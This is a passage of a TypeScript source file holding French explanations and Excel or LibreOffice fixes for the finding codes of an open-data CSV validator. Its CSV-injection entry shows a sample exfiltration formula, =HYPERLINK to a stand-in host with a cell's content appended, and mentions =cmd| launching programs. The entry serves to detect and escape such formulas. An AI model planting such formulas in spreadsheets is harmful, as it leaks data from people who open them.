// The longer explanation of each finding code for docs/errors.md and SARIF rules: what it means, an example, how to fix it.
import type { Loc } from './types.js';

/**
 * What docs/errors.md says about one code beyond its message. `example` is a finding whose message the
 * documentation generates from the catalogue (so the two cannot drift); `input` is the file excerpt it
 * comes from. Fixes are for the tools people use: Excel and LibreOffice Calc for data, the schema for
 * schema problems, odf itself when it repairs the problem.
 */
export interface Explanation {
  /** A paragraph: what the problem is and why it matters for published open data. */
  explain: string;
  example: { input?: string; loc?: Loc; params?: Record<string, unknown>; value?: string };
  excel?: string;
  libreoffice?: string;
  /** For problems in the schema: what its authors should change. */
  schema?: string;
  /** What odf does about it (normalize, an option). */
  odf?: string;
}

const SAVE_UTF8_EXCEL =
  'Fichier › Enregistrer sous, type « CSV UTF-8 (délimité par des virgules) (*.csv) ». Le type « CSV (séparateur : point-virgule) » écrit du Windows-1252.';
const SAVE_UTF8_CALC =
  'Fichier › Enregistrer sous, type « Texte CSV (.csv) », cochez « Éditer les paramètres du filtre », puis choisissez le jeu de caractères « Unicode (UTF-8) ».';
const FIND_EXCEL =
  'Données › Filtrer, puis dans la flèche de la colonne, décochez les valeurs correctes pour ne garder que les lignes à corriger ; Ctrl+H (Rechercher et remplacer) corrige une même erreur partout.';
const FIND_CALC =
  'Données › AutoFiltre pour ne montrer que les lignes à corriger ; Édition › Rechercher & remplacer (Ctrl+H), avec « Expressions régulières » si besoin, corrige une même erreur partout.';
const SCHEMA_ONLY = 'Rien à corriger dans vos données : le problème est dans le schéma.';

const siret: Explanation = {
  explain:
    'Un numéro SIRET identifie un établissement : 14 chiffres (le SIREN de l’entreprise, puis 5 chiffres), dont le dernier est une clé de contrôle (algorithme de Luhn). Un numéro qui n’a pas 14 chiffres ou dont la clé ne correspond pas est faux : souvent un zéro initial perdu par le tableur, un chiffre tapé deux fois, ou un numéro écrit en notation scientifique (2,1E+13).',
  example: {
    input: 'BGT_SIRET\n2176101040000',
    loc: { line: 2, fieldName: 'BGT_SIRET' },
    params: { reason: 'format' },
    value: '2176101040000',
  },
  excel:
    'avant de saisir ou de coller, mettez la colonne au format Texte (clic droit › Format de cellule › Texte) : Excel garde alors les zéros initiaux et n’écrit plus 2,17E+13. Vérifiez le numéro sur annuaire-entreprises.data.gouv.fr.',
  libreoffice:
    'Format › Cellules › Nombres › catégorie « Texte » avant la saisie ; à l’ouverture d’un CSV, choisissez le type « Texte » pour la colonne dans la fenêtre d’import.',
  odf: 'odf normalize remet les zéros perdus et défait la notation scientifique quand le résultat est un SIRET valide ; il ne propose jamais un numéro dont la clé est fausse.',
};

const siren: Explanation = {
  explain:
    'Un numéro SIREN identifie une entreprise ou une collectivité : 9 chiffres dont le dernier est une clé de contrôle (algorithme de Luhn). Un numéro d’une autre longueur ou à la clé fausse ne désigne personne.',
  example: {
    input: 'siren\n21930048',
    loc: { line: 2, fieldName: 'siren' },
    params: { reason: 'format' },
    value: '21930048',
  },
  excel:
    'mettez la colonne au format Texte (clic droit › Format de cellule › Texte) pour garder les zéros initiaux.',
  libreoffice: 'Format › Cellules › Nombres › catégorie « Texte » avant la saisie ou à l’import du CSV.',
};

const actes: Explanation = {
  explain:
    'Les délibérations classent leur objet dans la nomenclature ACTES du contrôle de légalité : « matière/sous-matière », la matière étant l’une des neuf matières de premier niveau (Commande publique, Urbanisme, Domaine et patrimoine, Fonction publique, Institutions et vie politique, Libertés publiques et pouvoirs de police, Finances locales, Domaines de compétences par thèmes, Autres domaines de compétences).',
  example: {
    input: 'DELIB_MATIERE\nVoirie/Travaux',
    loc: { line: 2, fieldName: 'DELIB_MATIERE' },
    params: { reason: 'unknown-heading', heading: 'Voirie' },
    value: 'Voirie/Travaux',
  },
  excel: `copiez la matière depuis votre logiciel de télétransmission (@ctes) ; ${FIND_EXCEL}`,
  libreoffice: `copiez la matière depuis votre logiciel de télétransmission (@ctes) ; ${FIND_CALC}`,
};

/** One explanation per code of the catalogue (a test checks none is missing). */
export const EXPLANATIONS: Record<string, Explanation> = {
  'ambiguous-label': {
    explain:
      'Un en-tête du fichier correspond aussi bien à deux champs du schéma, ou deux colonnes correspondent au même champ : odf ne devine pas lequel alimente quoi, et ne vérifie pas ces colonnes comme ce champ.',
    example: {
      input: 'Nom,NOM\nDupont,Martin',
      loc: { line: 1 },
      params: { label: 'Nom', fieldNames: ['nom', 'NOM'] },
    },
    excel:
      'renommez les en-têtes (première ligne) pour qu’ils portent exactement les noms des champs du schéma.',
    libreoffice: 'renommez les en-têtes (première ligne) pour qu’ils portent exactement les noms des champs.',
    odf: '`odf map` écrit un fichier de correspondance qui dit quelle colonne alimente quel champ ; passez-le avec --map.',
  },
  'blank-label': {
    explain:
      'Une colonne n’a pas de nom dans la ligne d’en-tête. Sans nom, personne ne sait ce qu’elle contient et elle ne peut correspondre à aucun champ du schéma. C’est souvent une colonne vide laissée à droite du tableau.',
    example: { input: 'id,,montant\n1,,12', loc: { line: 1, fieldNumber: 2 }, params: { fieldNumber: 2 } },
    excel:
      'sélectionnez la colonne (clic sur sa lettre) › clic droit › Supprimer si elle est vide ; sinon tapez son nom en première ligne.',
    libreoffice:
      'clic droit sur la lettre de la colonne › Supprimer les colonnes, ou nommez-la en première ligne.',
    odf: 'odf normalize retire les colonnes sans nom et vides.',
  },
  'blank-row': {
    explain:
      'Une ligne de données est entièrement vide. Les lecteurs de CSV la comptent comme un enregistrement sans valeur, ce qui fausse les totaux et peut cacher la fin du tableau.',
    example: { input: 'id,montant\n1,12\n,\n2,15', loc: { line: 3, rowNumber: 3 }, params: { rowNumber: 3 } },
    excel:
      'Accueil › Rechercher et sélectionner › Atteindre › Cellules… › « Cellules vides », puis clic droit › Supprimer › Ligne entière (sur une colonne toujours remplie).',
    libreoffice:
      'Données › Plus de filtres › Filtre standard « colonne = vide », sélectionnez les lignes trouvées, puis Feuille › Supprimer des lignes.',
    odf: 'odf normalize supprime les lignes vides et les compte.',
  },
  'c1-control-characters': {
    explain:
      'Des caractères de contrôle invisibles (U+0080 à U+009F) se trouvent dans le texte : c’est la trace d’un fichier Windows-1252 lu comme ISO-8859-1, où le tiret « – », l’apostrophe « ’ » ou « € » sont devenus des caractères sans forme. Publiés ainsi, ils s’affichent en carrés ou disparaissent.',
    example: { params: { count: 1, sample: 'Prix \u0096 total', repaired: 'Prix – total', line: 2 } },
    excel: SAVE_UTF8_EXCEL,
    libreoffice: SAVE_UTF8_CALC,
    odf: 'odf normalize remplace chaque caractère par celui qu’il représentait en Windows-1252.',
  },
  'cell-outside-table': {
    explain:
      'Dans un classeur, une cellule remplie est à gauche de la première colonne du tableau, sous aucun en-tête : odf ne sait pas à quel champ elle appartient et l’ignore. C’est souvent une note ou un total posé à côté du tableau.',
    example: { params: { cell: 'A7', count: 1 } },
    excel:
      'déplacez la valeur dans une colonne du tableau, ou videz la cellule (une note a sa place dans une autre feuille).',
    libreoffice: 'déplacez la valeur dans une colonne du tableau, ou videz la cellule.',
  },
  'cell-too-long': {
    explain:
      'Une cellule dépasse la longueur qu’odf lit par cellule (une limite qui le protège des fichiers piégés) : seul son début est lu, la suite est perdue pour la vérification. Un texte si long est souvent un collage involontaire ou un guillemet jamais refermé.',
    example: { params: { line: 12, limit: 100000 } },
    excel:
      'vérifiez la cellule (Ctrl+F sur le début de son texte) ; un guillemet ouvert au milieu d’un texte peut avaler les lignes suivantes.',
    libreoffice:
      'vérifiez la cellule ; un guillemet ouvert au milieu d’un texte peut avaler les lignes suivantes.',
    odf: 'si la cellule est juste, relancez avec --max-cell-length.',
  },
  'header-blank': {
    explain:
      'La ligne d’en-tête ne contient que des espaces : aucune colonne n’a de nom. odf la garde comme en-tête (les lignes suivantes restent des données, rien n’est perdu) mais aucune colonne ne peut correspondre au schéma.',
    example: { input: '  ,  \n1,2', params: { line: 1 } },
    excel: 'tapez le nom de chaque colonne sur la première ligne, exactement comme les champs du schéma.',
    libreoffice:
      'tapez le nom de chaque colonne sur la première ligne, exactement comme les champs du schéma.',
  },
  'line-too-long': {
    explain:
      'Une ligne du fichier dépasse la longueur qu’odf lit sans fin de ligne (une limite qui le protège des fichiers piégés) : la suite est ignorée jusqu’à la fin de ligne suivante. Souvent un export dont les fins de ligne ont été perdues (tout le fichier sur une ligne).',
    example: { params: { line: 2, limit: 1000000 } },
    excel:
      'rouvrez l’export d’origine : Données › À partir d’un fichier texte/CSV reconnaît les fins de ligne Windows, Mac et Unix.',
    libreoffice:
      'rouvrez l’export d’origine dans Calc, qui reconnaît les fins de ligne Windows, Mac et Unix, puis réenregistrez en CSV.',
    odf: 'si la ligne est juste, relancez avec --max-line-length.',
  },
  'sheet-choice-ambiguous': {
    explain:
      'Plusieurs feuilles du classeur ressemblent au tableau attendu : odf lit celle qui a le plus de lignes de données et le dit, pour que vous vérifiiez que c’est la bonne.',
    example: {
      params: {
        sheet: '2024',
        candidates: [
          { sheet: '2024', rows: 120 },
          { sheet: '2023', rows: 98 },
        ],
      },
    },
    odf: 'choisissez la feuille avec --sheet NOM ou --sheet NUMÉRO.',
  },
  'table-beyond-limits': {
    explain:
      'Le tableau dépasse les limites qu’odf lit (colonnes, ou lignes d’une feuille, comme un tableur) : les cellules au-delà sont ignorées. C’est presque toujours une cellule égarée très loin à droite ou en bas, qui étend le tableau sans raison.',
    example: { params: { what: 'columns', line: 2, limit: 16384, count: 1 } },
    excel:
      'Ctrl+Fin montre la dernière cellule utilisée : supprimez les colonnes ou lignes vides jusqu’à elle, puis enregistrez.',
    libreoffice:
      'Ctrl+Fin montre la dernière cellule utilisée : supprimez les colonnes ou lignes vides jusqu’à elle, puis enregistrez.',
    odf: 'si le tableau est vraiment si grand, relancez avec --max-columns ou --max-rows.',
  },
  'check-deprecated': {
    explain:
      'Le schéma déclare une vérification personnalisée (custom_checks de Validata) sous un ancien nom. odf l’exécute quand même ; l’avertissement s’adresse aux auteurs du schéma et ne change ni la conformité ni le score.',
    example: { params: { check: 'french-siret-value', replacement: 'siret' } },
    schema: 'remplacez l’ancien nom par le nouveau dans `custom_checks` (par exemple `"name": "siret"`).',
    odf: SCHEMA_ONLY,
  },
  'check-error': {
    explain:
      'Une vérification personnalisée du schéma ne peut pas être exécutée : son nom est inconnu ou ses paramètres sont faux (colonne inexistante, type inattendu). Les autres vérifications se font ; celle-ci non, ce qui peut laisser passer des erreurs.',
    example: { params: { reason: 'unknown-check', check: 'french-siret', suggestion: 'french-siret-value' } },
    schema:
      'corrigez `custom_checks` : un nom de la liste de Validata, des paramètres qui désignent des champs du schéma.',
  },
  'cohesive-columns-value': {
    explain:
      'Le schéma demande que certaines colonnes soient remplies ensemble : toutes ou aucune (par exemple une référence et sa date). Une ligne n’en remplit qu’une partie.',
    example: {
      input: 'PREF_ID,PREF_DATE\n034-213400575-20200101-X,',
      loc: { line: 2, fieldName: 'PREF_ID' },
      params: { columns: ['PREF_ID', 'PREF_DATE'], filled: ['PREF_ID'], empty: ['PREF_DATE'] },
    },
    excel: `complétez les cellules vides de la ligne, ou videz les autres. ${FIND_EXCEL}`,
    libreoffice: `complétez les cellules vides de la ligne, ou videz les autres. ${FIND_CALC}`,
  },
  'compare-columns-value': {
    explain:
      'Le schéma compare deux colonnes d’une même ligne (une date de fin après la date de début, un montant versé au plus égal au montant voté) et la comparaison est fausse pour cette ligne.',
    example: {
      input: 'montant_vote,montant_verse\n1000,1500',
      loc: { line: 2, fieldName: 'montant_verse' },
      params: { op: '<=', value2: '1000', column2: 'montant_vote' },
      value: '1500',
    },
    excel:
      'corrigez l’une des deux valeurs ; une colonne de contrôle `=B2<=A2` puis un filtre sur FAUX montre toutes les lignes concernées.',
    libreoffice:
      'corrigez l’une des deux valeurs ; une colonne de contrôle `=B2<=A2` puis un AutoFiltre sur FAUX montre toutes les lignes concernées.',
  },
  'constraint-error': {
    explain:
      'La valeur est du bon type mais ne respecte pas une règle du champ : cellule obligatoire vide (required), valeur hors de la liste permise (enum), trop courte ou trop longue, hors des bornes (minimum, maximum) ou d’une forme différente du motif (pattern). Le message dit laquelle.',
    example: {
      input: 'statut\nvalidé',
      loc: { line: 2, fieldName: 'statut' },
      params: { type: 'string', constraint: 'enum', expected: ['adopté', 'rejeté'] },
      value: 'validé',
    },
    excel:
      'pour une liste de valeurs, Données › Validation des données › Autoriser « Liste » avec les valeurs du schéma empêche d’en saisir d’autres ; ' +
      FIND_EXCEL,
    libreoffice: `pour une liste de valeurs, Données › Validité › Autoriser « Plage de cellules » ou « Liste ». ${FIND_CALC}`,
    odf: 'odf normalize corrige ce qui est sûr : casse et accents d’une valeur de liste, espaces autour d’une valeur.',
  },
  'double-encoded-text': {
    explain:
      'Des accents apparaissent sous la forme « Ã© » au lieu de « é » : le texte a été encodé en UTF-8 deux fois, souvent parce qu’un fichier UTF-8 a été rouvert comme Windows-1252 puis réenregistré. Les lecteurs verront ces caractères tels quels.',
    example: { params: { sample: 'CrÃ©teil', repaired: 'Créteil', line: 4 } },
    excel:
      'ne corrigez pas à la main : rouvrez l’export d’origine par Données › À partir d’un fichier texte/CSV en choisissant « 65001 : Unicode (UTF-8) » comme origine du fichier.',
    libreoffice:
      'rouvrez l’export d’origine en choisissant le jeu de caractères « Unicode (UTF-8) » dans la fenêtre d’import du CSV.',
    odf: 'odf normalize répare le double encodage quand il est certain.',
  },
  'duplicate-label': {
    explain:
      'Deux colonnes portent le même nom d’en-tête. Un lecteur ne peut pas savoir laquelle est la bonne, et la plupart des outils n’en gardent qu’une.',
    example: {
      input: 'id,montant,montant\n1,12,13',
      loc: { line: 1, fieldNumber: 3, column: 'montant' },
      params: { label: 'montant', fieldNumber: 3, firstFieldNumber: 2 },
    },
    excel: 'renommez ou supprimez l’une des deux colonnes (clic droit sur sa lettre › Supprimer).',
    libreoffice:
      'renommez ou supprimez l’une des deux colonnes (clic droit sur sa lettre › Supprimer les colonnes).',
  },
  'encoding-error': {
    explain:
      'Des octets du fichier ne forment pas de caractères valides dans l’encodage lu : le fichier est abîmé, tronqué, ou dans un autre encodage que celui détecté. Les caractères illisibles sont remplacés par « � ».',
    example: { params: { encoding: 'utf-8', replaced: 3, line: 12, reason: 'invalid-bytes' } },
    excel: SAVE_UTF8_EXCEL,
    libreoffice: SAVE_UTF8_CALC,
    odf: 'si vous connaissez l’encodage, indiquez-le avec --encoding (par exemple --encoding windows-1252).',
  },
  'encoding-guessed': {
    explain:
      'Le fichier ne dit pas son encodage (pas de BOM) et odf l’a deviné d’après ses octets, avec le degré de confiance indiqué. Si les accents du rapport sont faux, la supposition l’est aussi.',
    example: { params: { encoding: 'windows-1252', confidence: 0.95, reason: 'c1-bytes' } },
    excel: SAVE_UTF8_EXCEL,
    libreoffice: SAVE_UTF8_CALC,
    odf: 'indiquez l’encodage avec --encoding si la supposition est fausse.',
  },
  'encoding-not-utf8': {
    explain:
      'Le fichier est lisible mais n’est pas en UTF-8, l’encodage attendu pour les données ouvertes (schema.data.gouv.fr, data.gouv.fr). Un lecteur qui l’ouvre en UTF-8 verra des accents abîmés.',
    example: { params: { encoding: 'windows-1252' } },
    excel: SAVE_UTF8_EXCEL,
    libreoffice: SAVE_UTF8_CALC,
    odf: 'odf normalize écrit toujours de l’UTF-8.',
  },
  'extra-cell': {
    explain:
      'Une ligne a plus de cellules que l’en-tête n’a de colonnes. Le plus souvent une valeur contient le séparateur (une virgule dans une adresse, un point-virgule dans un libellé) sans être entourée de guillemets, et la ligne est coupée en trop de morceaux.',
    example: {
      input: 'id,commune\n1,Saint-Denis, centre',
      loc: { line: 2, rowNumber: 2, fieldNumber: 3 },
      params: { rowNumber: 2, fieldNumber: 3, cellCount: 3, labelCount: 2 },
      value: ' centre',
    },
    excel:
      'réenregistrez depuis le tableur (il met lui-même les guillemets) plutôt que d’éditer le CSV dans un éditeur de texte.',
    libreoffice:
      'à l’enregistrement CSV, cochez « Mettre entre guillemets toutes les cellules de texte » dans les paramètres du filtre.',
  },
  'extra-label': {
    explain:
      'Une colonne du fichier ne correspond à aucun champ du schéma. Elle n’est pas vérifiée ; selon le schéma, une colonne en plus est tolérée ou non par les plateformes de publication.',
    example: {
      input: 'id,montant,remarque\n1,12,ok',
      loc: { line: 1, column: 'remarque' },
      params: { label: 'remarque', columnNumber: 3 },
    },
    excel: 'supprimez la colonne si elle n’a pas à être publiée (clic droit sur sa lettre › Supprimer).',
    libreoffice:
      'supprimez la colonne si elle n’a pas à être publiée (clic droit sur sa lettre › Supprimer les colonnes).',
    odf: 'odf normalize retire les colonnes hors schéma (--keep-extra les garde) ; si elle alimente un champ sous un autre nom, dites-le avec `odf map`.',
  },
  'foreign-key': {
    explain:
      'Le schéma dit qu’une colonne renvoie à une autre (une clé étrangère dans le même tableau) et cette valeur ne se retrouve nulle part dans la colonne de référence.',
    example: {
      input: 'id,parent\n1,\n2,9',
      loc: { line: 3, fieldName: 'parent' },
      params: { fields: 'parent', referenceFields: 'id' },
      value: '9',
    },
    excel:
      'cherchez la valeur avec Ctrl+F dans la colonne de référence ; corrigez-la ou ajoutez la ligne manquante. `=NB.SI(A:A;B2)=0` marque les valeurs orphelines.',
    libreoffice:
      '`=NB.SI(A:A;B2)=0` dans une colonne de contrôle marque les valeurs orphelines ; corrigez-les ou ajoutez les lignes manquantes.',
  },
  'format-error': {
    explain:
      'La syntaxe CSV est cassée à cet endroit : un guillemet ouvert n’est jamais refermé (le reste du fichier serait avalé dans une seule cellule), ou un guillemet apparaît au milieu d’une cellule. odf lit la suite au mieux et le signale.',
    example: {
      input: 'id,libelle\n1,"Tuyau 12"\n2,"Tuyau 15',
      loc: { line: 3 },
      params: { line: 3, problem: 'unclosed-quote' },
    },
    excel:
      'ouvrez le fichier dans le tableur, corrigez la cellule, puis réenregistrez en CSV : le tableur écrit les guillemets correctement.',
    libreoffice:
      'ouvrez le fichier dans Calc, corrigez la cellule, puis réenregistrez en CSV : Calc écrit les guillemets correctement.',
  },
  'formula-like-text': {
    explain:
      'Excel et LibreOffice exécutent comme une formule une cellule de CSV qui commence par =, ou par +, - ou @ suivis d’un appel de fonction : =HYPERLINK(…) peut envoyer des données ailleurs, =cmd|… peut lancer un programme (injection CSV, OWASP). Ce texte sera publié, puis ouvert par d’autres dans leur tableur. Les nombres (-5, +3,5), les téléphones (+33 1 23 45 67 89) et les pseudonymes (@mairie) ne sont pas concernés.',
    example: {
      input: 'commentaire\n=HYPERLINK("http://exemple.invalid/?"&A1)',
      loc: { fieldNumber: 1, fieldName: 'commentaire' },
      params: { count: 1, rows: [2], examples: ['=HYPERLINK("http://exemple.invalid/?"&A1)'] },
    },
    excel:
      "vérifiez d’où vient la valeur ; pour garder un texte qui commence par =, tapez une apostrophe devant ('=…), ou mettez la colonne au format Texte avant la saisie.",
    libreoffice:
      'tapez une apostrophe devant la valeur, ou Format › Cellules › catégorie « Texte » avant la saisie.',
    odf: 'odf normalize ne crée jamais de formule en réparant une cellule ; `odf normalize --escape-formulas` préfixe ces cellules d’une apostrophe, comme le conseille l’OWASP.',
  },
  'french-gps-coordinates': {
    explain:
      'Le schéma attend des coordonnées en France (métropole et outre-mer) écrites « longitude, latitude » en degrés décimaux. Ce point est ailleurs, ou illisible : souvent un signe oublié, une virgule décimale, ou des coordonnées en Lambert 93.',
    example: {
      input: 'coordonnees\n"48.85837, 52.0"',
      loc: { line: 2, fieldName: 'coordonnees' },
      params: { lon: 48.85837, lat: 52 },
      value: '48.85837, 52.0',
    },
    excel:
      'reprenez les coordonnées depuis geoportail.gouv.fr ou votre SIG en WGS 84 (EPSG:4326), en degrés décimaux avec un point.',
    libreoffice:
      'reprenez les coordonnées en WGS 84 (EPSG:4326), en degrés décimaux avec un point ; Ctrl+H remplace les virgules décimales.',
  },
  'french-siren-value': siren,
  'french-siret-value': siret,
  'header-rows-skipped': {
    explain:
      'Des lignes de titre ou des lignes vides précèdent la ligne des noms de colonnes. odf les a sautées pour trouver l’en-tête, mais un lecteur de CSV les prendrait pour l’en-tête. Les numéros de ligne du rapport restent ceux de votre fichier.',
    example: {
      input: 'Budget 2024\n\nBGT_ANNEE;BGT_NOM\n2024;Commune',
      params: { lines: [1, 2], headerLine: 3 },
    },
    excel:
      'sélectionnez les lignes au-dessus de l’en-tête (clic sur leurs numéros) › clic droit › Supprimer.',
    libreoffice: 'sélectionnez les lignes au-dessus de l’en-tête › clic droit › Supprimer les lignes.',
    odf: 'odf normalize écrit un fichier qui commence par l’en-tête.',
  },
  'incorrect-label': {
    explain:
      'L’en-tête correspond à un champ du schéma (à la casse, aux accents, aux séparateurs près, par son titre ou un synonyme connu) mais n’est pas son nom exact. Les outils de publication comparent les noms à la lettre : la colonne serait vue comme absente.',
    example: {
      input: 'Montant\n12',
      loc: { line: 1, fieldName: 'montant', column: 'Montant' },
      params: { label: 'Montant', fieldName: 'montant', kind: 'folded' },
    },
    excel: 'retapez l’en-tête exactement comme le nom du champ (casse et tirets bas compris).',
    libreoffice: 'retapez l’en-tête exactement comme le nom du champ (casse et tirets bas compris).',
    odf: 'odf normalize renomme les en-têtes ; la colonne est déjà vérifiée comme ce champ.',
  },
  'label-order': {
    explain:
      'Les colonnes sont toutes là mais pas dans l’ordre des champs du schéma. La plupart des outils lisent les colonnes par leur nom ; certains imports les lisent par position.',
    example: { input: 'b,a\n1,2', params: { expected: ['a', 'b'] } },
    excel:
      'coupez une colonne (clic droit sur sa lettre › Couper) puis clic droit à sa place › Insérer les cellules coupées.',
    libreoffice: 'glissez la colonne avec Alt (Windows) ou Cmd (macOS) enfoncé pour la déplacer.',
    odf: 'odf normalize écrit les colonnes dans l’ordre du schéma.',
  },
  'label-suggestion': {
    explain:
      'Une colonne du fichier ressemble à un champ du schéma sans lui correspondre assez sûrement pour qu’odf la rattache seul (faute de frappe, mot en plus).',
    example: {
      input: 'montants\n12',
      loc: { line: 1, fieldName: 'montant', column: 'montants' },
      params: { label: 'montants', fieldName: 'montant', score: 0.93 },
    },
    excel: 'si c’est bien ce champ, retapez l’en-tête à l’identique du nom du champ.',
    libreoffice: 'si c’est bien ce champ, retapez l’en-tête à l’identique du nom du champ.',
    odf: 'odf normalize --accept-suggestions applique les suggestions ; `odf map` les enregistre dans un fichier de correspondance.',
  },
  'missing-cell': {
    explain:
      'Une ligne a moins de cellules que l’en-tête n’a de colonnes : il manque des séparateurs, souvent en fin de ligne, ou une ligne a été coupée en deux par un retour à la ligne dans une cellule sans guillemets.',
    example: {
      input: 'id,commune,montant\n1,Pantin',
      loc: { line: 2, rowNumber: 2, fieldNumber: 3, fieldName: 'montant' },
      params: { rowNumber: 2, fieldNumber: 3, cellCount: 2, labelCount: 3 },
    },
    excel:
      'réenregistrez le fichier depuis le tableur : il écrit toujours toutes les cellules de chaque ligne.',
    libreoffice: 'réenregistrez le fichier depuis Calc : il écrit toutes les cellules de chaque ligne.',
  },
  'missing-label': {
    explain:
      'Un champ obligatoire du schéma n’a aucune colonne dans le fichier. Toutes ses valeurs manquent : le fichier ne peut pas être conforme sans elle.',
    example: { input: 'id\n1', loc: { fieldName: 'commune' } },
    excel:
      'insérez la colonne (clic droit sur une lettre › Insérer), nommez-la comme le champ et remplissez-la.',
    libreoffice:
      'insérez la colonne (clic droit › Insérer des colonnes), nommez-la comme le champ et remplissez-la.',
    odf: 'si elle existe sous un autre nom, ou si sa valeur est la même partout, dites-le dans un fichier de correspondance (`odf map`, option --map).',
  },
  'missing-optional-label': {
    explain:
      'Un champ facultatif du schéma n’a pas de colonne dans le fichier. Ce n’est pas une erreur, mais le schéma demande que la colonne existe, même vide.',
    example: { input: 'id\n1', loc: { fieldName: 'remarque' } },
    excel: 'insérez une colonne portant le nom du champ, même vide.',
    libreoffice: 'insérez une colonne portant le nom du champ, même vide.',
    odf: 'odf normalize ajoute les colonnes facultatives absentes, vides.',
  },
  'no-table': {
    explain:
      'Le fichier nommé n’a rien d’un tableau : une seule ligne d’une seule cellule (un mot dans un fichier texte, une note), sans séparateur ni ligne de données. Il ne peut pas être conforme : il n’y a rien à publier comme données.',
    example: { input: 'lisezmoi', params: { labels: 1 } },
    excel:
      'vérifiez le fichier exporté : feuille choisie, filtre actif, export « Texte Unicode » au lieu de CSV.',
    libreoffice: 'vérifiez le fichier exporté : feuille choisie, filtre actif, type d’export.',
  },
  'no-data': {
    explain: 'Le fichier n’a qu’une ligne d’en-tête, sans aucune ligne de données : il n’y a rien à publier.',
    example: { input: 'id,montant' },
    excel: 'vérifiez l’export : filtre actif, mauvaise feuille, période vide.',
    libreoffice: 'vérifiez l’export : filtre actif, mauvaise feuille, période vide.',
  },
  'nomenclature-acte': actes,
  'nomenclature-actes-value': actes,
  'one-of-required': {
    explain:
      'Le schéma demande qu’au moins une de deux colonnes soit remplie sur chaque ligne (par exemple un SIRET ou un RNA pour un bénéficiaire).',
    example: {
      input: 'idBeneficiaire,rnaBeneficiaire\n,',
      loc: { line: 2 },
      params: { column1: 'idBeneficiaire', column2: 'rnaBeneficiaire' },
    },
    excel: `remplissez l’une des deux cellules. ${FIND_EXCEL}`,
    libreoffice: `remplissez l’une des deux cellules. ${FIND_CALC}`,
  },
  'opening-hours-value': {
    explain:
      'Le schéma attend des horaires au format d’OpenStreetMap (`Mo-Fr 08:30-12:00; Sa 09:00-12:00`), que les applications savent lire. Le texte de la cellule ne suit pas cette syntaxe.',
    example: {
      input: 'horaires\nlundi au vendredi 9h-12h',
      loc: { line: 2, fieldName: 'horaires' },
      params: { detail: 'jour inconnu « lundi »' },
      value: 'lundi au vendredi 9h-12h',
    },
    excel:
      'réécrivez les horaires avec l’assistant openingh.openstreetmap.de/evaluation_tool puis collez le résultat.',
    libreoffice:
      'réécrivez les horaires avec l’assistant openingh.openstreetmap.de/evaluation_tool puis collez le résultat.',
  },
  'pattern-not-checked': {
    explain:
      'Le motif (pattern) du champ utilise une référence arrière (\\1) ou une assertion avant ((?=…)), que les expressions régulières de Table Schema n’ont pas, ou il est très long, et la valeur aussi. odf vérifie tout motif avec un budget de calcul par cellule, pour qu’aucune cellule ne puisse le bloquer ; cette valeur demandait davantage. Elle n’est ni acceptée ni refusée : le rapport le dit plutôt que de deviner.',
    example: {
      input: 'code\nabababababababababababababababababababababab!',
      loc: { line: 2, rowNumber: 2, fieldName: 'code' },
      value: 'abababababababababababababababababababababab!',
    },
    excel: `vérifiez ces valeurs à la main ; ${FIND_EXCEL}`,
    libreoffice: `vérifiez ces valeurs à la main ; ${FIND_CALC}`,
    schema:
      'écrivez le motif sans référence arrière ni assertion (la syntaxe XML Schema de Table Schema) : il est alors toujours vérifié, en temps linéaire.',
  },
  'personal-data-suspected': {
    explain:
      'Une colonne semble contenir des données personnelles (noms de personnes, adresses électroniques ou téléphones personnels, NIR, IBAN, dates de naissance). Publier ces données sans base légale est interdit (RGPD) ; odf masque ces valeurs dans tous ses rapports.',
    example: {
      params: { column: 'contact', kind: 'email', count: 12, rows: [2, 3, 5], examples: ['j***@g***.com'] },
    },
    excel:
      'supprimez la colonne (clic droit sur sa lettre › Supprimer) ou remplacez les valeurs par un contact de service.',
    libreoffice:
      'supprimez la colonne (clic droit › Supprimer les colonnes) ou remplacez les valeurs par un contact de service.',
    odf: '`odf normalize --redact COLONNE` supprime, masque ou hache (avec un sel secret) ces valeurs dans le fichier publié.',
  },
  'phone-number-value': {
    explain:
      'Le schéma attend un numéro de téléphone valide (plan de numérotation français ou international). Celui-ci n’en est pas un : chiffres manquants, indicatif faux.',
    example: { input: 'telephone\n619 13 45', loc: { line: 2, fieldName: 'telephone' }, value: '619 13 45' },
    excel:
      'écrivez les 10 chiffres (02 61 91 13 45) ou la forme internationale (+33 2 61 91 13 45), en format Texte.',
    libreoffice: 'écrivez les 10 chiffres ou la forme internationale, la colonne au format Texte.',
  },
  'primary-key': {
    explain:
      'La clé primaire du schéma (une ou plusieurs colonnes) doit identifier chaque ligne : deux lignes ont la même clé, ou une ligne n’en a pas. Souvent une ligne copiée deux fois.',
    example: {
      input: 'id,montant\n1,12\n1,15',
      loc: { line: 3, rowNumber: 3 },
      params: { fields: 'id', firstRowNumber: 2, firstLine: 2 },
      value: '1',
    },
    excel:
      'Accueil › Mise en forme conditionnelle › Règles de mise en surbrillance › Valeurs en double sur la colonne clé ; Données › Supprimer les doublons pour les lignes copiées.',
    libreoffice:
      'Données › Plus de filtres › Filtre standard avec « Sans doublons » dans les options pour repérer les lignes copiées.',
  },
  'reversed-french-gps-coordinates': {
    explain:
      'Les coordonnées sont en France une fois inversées : la latitude est écrite avant la longitude, alors que le schéma attend « longitude, latitude ».',
    example: {
      input: 'coordonnees\n"48.85837, 2.294481"',
      loc: { line: 2, fieldName: 'coordonnees' },
      params: { suggestion: '2.294481, 48.85837' },
      value: '48.85837, 2.294481',
    },
    excel:
      'inversez les deux nombres ; si la colonne entière est inversée, Données › Convertir sépare les deux parties, puis `=B2&", "&A2` les recolle dans l’ordre.',
    libreoffice:
      'inversez les deux nombres ; Données › Texte en colonnes sépare les deux parties, puis `=B2&", "&A2` les recolle dans l’ordre.',
  },
  'schema-error': {
    explain:
      'Le schéma lui-même ne respecte pas la spécification Table Schema (une propriété manquante ou mal écrite). odf vérifie ce qu’il peut, mais d’autres validateurs refuseront le schéma.',
    example: { params: { path: '/fields/0/constraints', keyword: 'type', expected: 'object' } },
    schema:
      'corrigez le schéma à l’endroit indiqué (chemin JSON) ; le validateur de schema.data.gouv.fr donne le même diagnostic.',
    odf: SCHEMA_ONLY,
  },
  'schema-example-invalid': {
    explain:
      'L’exemple qu’un champ du schéma donne ne respecte pas les règles de ce même champ (pas une chaîne, hors de la liste, d’une autre forme que le motif). Les messages d’odf qui le citent restent justes ; le schéma devrait être corrigé.',
    example: { loc: { fieldName: 'code_postal' }, params: { example: 75001, reason: 'not-a-string' } },
